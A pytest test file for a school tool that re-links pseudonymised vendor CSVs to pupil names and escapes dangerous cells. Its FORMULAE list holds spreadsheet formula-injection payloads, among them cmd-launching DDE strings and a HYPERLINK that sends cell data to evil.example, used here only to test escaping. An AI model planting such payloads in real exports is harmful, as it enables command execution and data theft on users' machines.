"""A vendor's file with the names put in front: who is found, what is registered first, and what a cell may hold."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from gateway.errors import UsageError
from gateway.roster.model import Kind, ProductId
from gateway.school.disclosure.identify import Identifier
from gateway.school.relink.files import FileCounts, PersonName, relink_file
from gateway.school.relink.recovering import Found, Recoverer
from gateway.school.relink.spreadsheet import harmless
from keys.keyring import KeyRing
from tests.gateway.school.delivery.rig import REKENEN, TAAL, TOETS, space_of
from tests.shared import shared_path

PUPILS = {
    "17": PersonName("Sem", "de Vries"),
    "18": PersonName("Zoë", "van den Berg"),
    "19": PersonName("=Noor", "+Jansen"),
}


@dataclass
class Office:
    """Somebody at the school with a file, and what was registered before the names were looked up."""

    ring: KeyRing
    folder: Path
    registered: list[tuple[str, ...]] = field(default_factory=list)
    aliases: dict[str, str] = field(default_factory=dict)
    register_fails: bool = False

    def found(self, identifier: str) -> Found:
        return Found(self.ring.space(space_of("las1")), identifier)

    def pseudonym(self, identifier: str, product: ProductId = REKENEN) -> str:
        space = self.ring.space(space_of("las1"))
        return Identifier(self.ring).pseudonyms(product, Kind.USER, space, [identifier])[0]

    def _register(self, persons: Sequence[Found]) -> None:
        assert not (self.folder / "out.csv").exists()
        if self.register_fails:
            raise UsageError("the register cannot be written", code="register_unwritable")
        self.registered.append(tuple(sorted(person.identifier for person in persons)))

    def _names(self, persons: Sequence[Found]) -> Mapping[Found, PersonName]:
        assert self.registered, "names are looked up before it is registered"
        return {p: PUPILS[p.identifier] for p in persons if p.identifier in PUPILS}

    def _alias(self, texts: Sequence[str]) -> Mapping[str, Found]:
        return {text: self.found(self.aliases[text]) for text in texts if text in self.aliases}

    def relink_bytes(self, content: bytes) -> FileCounts:
        path = self.folder / "in.csv"
        path.write_bytes(content)
        return relink_file(
            path,
            self.folder / "out.csv",
            product=REKENEN,
            other_products=[TAAL, TOETS],
            recoverer=Recoverer(self.ring),
            aliases=self._alias,
            register=self._register,
            names=self._names,
        )

    def relink(self, text: str) -> FileCounts:
        return self.relink_bytes(text.encode())

    def out(self, delimiter: str = ";") -> list[list[str]]:
        text = (self.folder / "out.csv").read_bytes().decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.fixture
def office(ring: KeyRing, tmp_path: Path) -> Office:
    return Office(ring, tmp_path)


def test_names_come_in_front_and_unknown_rows_are_marked(office: Office) -> None:
    counts = office.relink(
        f"leerling;score\n{office.pseudonym('17')};7,5\n{office.pseudonym('18').upper()};8\npabc;3\n"
    )
    assert office.out() == [
        ["koppeling", "voornaam", "achternaam", "leerling", "score"],
        ["gevonden", "Sem", "de Vries", office.pseudonym("17"), "7,5"],
        ["gevonden", "Zoë", "van den Berg", office.pseudonym("18").upper(), "8"],
        ["onbekend", "", "", "pabc", "3"],
    ]
    assert (counts.rows, counts.joined, counts.unknown, counts.persons) == (3, 2, 1, 2)
    assert office.registered == [("17", "18")]


def test_a_pseudonym_inside_text_an_address_or_a_url_is_found(office: Office) -> None:
    p17, p18 = office.pseudonym("17"), office.pseudonym("18")
    for cell in (
        f"{p17}@leerling.example",
        f"https://vendor.example/u/{p17}?tab=1",
        f"https://vendor.example/?next=%2F{p17}",
        f"resultaat van {p17}.",
        f"user_{p17}_x",
    ):
        (office.folder / "out.csv").unlink(missing_ok=True)
        office.relink(f"wie;score\n{cell};1\n{p18};2\n")
        assert office.out()[1][:3] == ["gevonden", "Sem", "de Vries"], cell


def test_an_alias_in_its_own_cell_is_found(office: Office) -> None:
    office.aliases = {"Leerling K7Q4": "17"}
    office.relink("naam,score\nLeerling K7Q4,7\nLeerling XXXX,8\n")
    assert [row[:3] for row in office.out(",")[1:]] == [["gevonden", "Sem", "de Vries"], ["onbekend", "", ""]]


def test_columns_of_one_person_give_one_name_and_a_teacher_another(office: Office) -> None:
    office.aliases = {"Leerling K7Q4": "17"}
    p17, p18, p19 = (office.pseudonym(number) for number in ("17", "18", "19"))
    office.relink(f"id;naam;docent\n{p17};Leerling K7Q4;{p19}\n{p18};;{p19}\n")
    heading, first, second = office.out()
    assert heading[1:5] == ["voornaam (id)", "achternaam (id)", "voornaam (docent)", "achternaam (docent)"]
    assert first[1:3] == ["Sem", "de Vries"]
    assert second[1:3] == ["Zoë", "van den Berg"]


def test_a_file_without_a_heading_is_read_too(office: Office) -> None:
    counts = office.relink(f"{office.pseudonym('17')};7\n{office.pseudonym('18')};8\n")
    assert counts.joined == 2
    assert office.out()[0] == ["koppeling", "voornaam", "achternaam", "kolom 1", "kolom 2"]


def test_another_products_pseudonym_is_counted_and_joined_to_nobody(office: Office) -> None:
    counts = office.relink(f"id;s\n{office.pseudonym('17')};1\n{office.pseudonym('18', TAAL)};2\n")
    assert (counts.joined, counts.other_product, counts.unknown) == (1, 1, 0)
    assert office.out()[2][:3] == ["van een ander product", "", ""]
    assert office.registered == [("17",)]


def test_two_pupils_in_one_cell_are_not_guessed(office: Office) -> None:
    text = f"{office.pseudonym('17')} en {office.pseudonym('18')}"
    counts = office.relink(f"wie;s\n{text};1\n")
    assert (counts.several, counts.joined) == (1, 0)
    assert office.out()[1][:3] == ["meer dan een persoon", "", ""]


def test_a_pupil_who_left_the_school_is_marked(office: Office) -> None:
    counts = office.relink(f"wie;s\n{office.pseudonym('99')};1\n")
    assert (counts.joined, counts.gone) == (1, 1)
    assert office.out()[1][:3] == ["niet meer in het schoolsysteem", "", ""]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t", "|"])
def test_any_encoding_and_dialect_is_read(office: Office, encoding: str, delimiter: str) -> None:
    rows = [["naam", "cijfer"], [office.pseudonym("17"), 'Zoë zei: "goed"'], ["x", "é, ö"]]
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    office.relink_bytes(text.getvalue().encode(encoding))
    assert [row[3:] for row in office.out(delimiter)] == rows


def test_the_line_that_names_the_delimiter_is_read(office: Office) -> None:
    office.relink(f"sep=;\r\nid;s\r\n{office.pseudonym('17')};1\r\n")
    assert office.out()[1][:3] == ["gevonden", "Sem", "de Vries"]


def test_nothing_is_written_when_it_cannot_be_registered(office: Office) -> None:
    office.register_fails = True
    with pytest.raises(UsageError):
        office.relink(f"id;s\n{office.pseudonym('17')};1\n")
    assert sorted(path.name for path in office.folder.iterdir()) == ["in.csv"]


def test_a_file_without_this_products_pseudonyms_is_refused_and_not_registered(office: Office) -> None:
    with pytest.raises(UsageError) as refused:
        office.relink(f"id;s\n{office.pseudonym('17', TAAL)};1\n")
    assert refused.value.code == "nothing_to_relink"
    assert office.registered == []
    assert not (office.folder / "out.csv").exists()


def test_the_output_is_for_its_owner_only_and_never_over_another_file(office: Office) -> None:
    office.relink(f"id;s\n{office.pseudonym('17')};1\n")
    out = office.folder / "out.csv"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    before = out.read_bytes()
    with pytest.raises(UsageError) as refused:
        office.relink(f"id;s\n{office.pseudonym('18')};1\n")
    assert refused.value.code == "output_exists"
    assert out.read_bytes() == before
    assert sorted(path.name for path in office.folder.iterdir()) == ["in.csv", "out.csv"]


def test_a_link_in_the_place_of_the_output_is_not_followed(office: Office) -> None:
    os.symlink(office.folder / "elsewhere", office.folder / "out.csv")
    with pytest.raises(UsageError):
        office.relink(f"id;s\n{office.pseudonym('17')};1\n")
    assert not (office.folder / "elsewhere").exists()


@pytest.mark.parametrize("content", [b"", b"\x00\x01\x02\xff\xfe", b"\n\n"])
def test_what_is_no_csv_is_refused(office: Office, content: bytes) -> None:
    with pytest.raises(UsageError) as refused:
        office.relink_bytes(content)
    assert refused.value.code in ("file_not_csv", "file_not_text")


def test_more_than_two_hundred_thousand_rows_are_refused(office: Office) -> None:
    with pytest.raises(UsageError) as refused:
        office.relink("a;b\n" + "x;y\n" * 200_001)
    assert refused.value.code == "file_too_long"


FORMULAE = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "－1+cmd",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"klik")',
    "%0A-3+3",
    "goed;=1+1",
    "goed,=cmd|'/c calc'!A1",
    "regel\n=1+1",
    "-",
    "=-1",
    "--1",
]


@pytest.mark.parametrize("cell", FORMULAE)
def test_what_a_spreadsheet_would_run_is_text_whatever_its_delimiter(cell: str) -> None:
    safe = harmless(cell)
    for delimiter in ";,|\t\n\r":
        for part in safe.split(delimiter):
            bare = part.lstrip(' "\u00a0\u200b\ufeff')
            assert bare[:1] not in tuple("=+-@\t\r＝＋－＠") or not bare
    assert safe.replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize(
    "cell",
    [
        "-1",
        "+31612345678",
        "-7,5",
        "-7.5%",
        "7",
        "",
        "goed gedaan",
        "a-b",
        "x=y",
        "1;2",
        "9 - 10",
        "'s ochtends",
    ],
)
def test_plain_numbers_and_harmless_text_stay_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell


def test_names_are_made_text_too(office: Office) -> None:
    office.relink(f"id;s\n{office.pseudonym('19')};=1+1\n")
    assert office.out()[1] == ["gevonden", "'=Noor", "'+Jansen", office.pseudonym("19"), "'=1+1"]


def test_no_naughty_string_becomes_a_formula(office: Office) -> None:
    import json

    naughty = json.loads(shared_path("corpora", "blns.json").read_text("utf-8"))
    strings = [text for text in naughty if "\x00" not in text]
    text = io.StringIO()
    csv.writer(text, delimiter=";").writerows(
        [["id", "tekst"], *([office.pseudonym("17"), s] for s in strings)]
    )
    office.relink(text.getvalue())
    for row in office.out()[1:]:
        for cell in row:
            assert cell[:1] not in tuple("=+-@\t\r") or harmless(cell) == cell
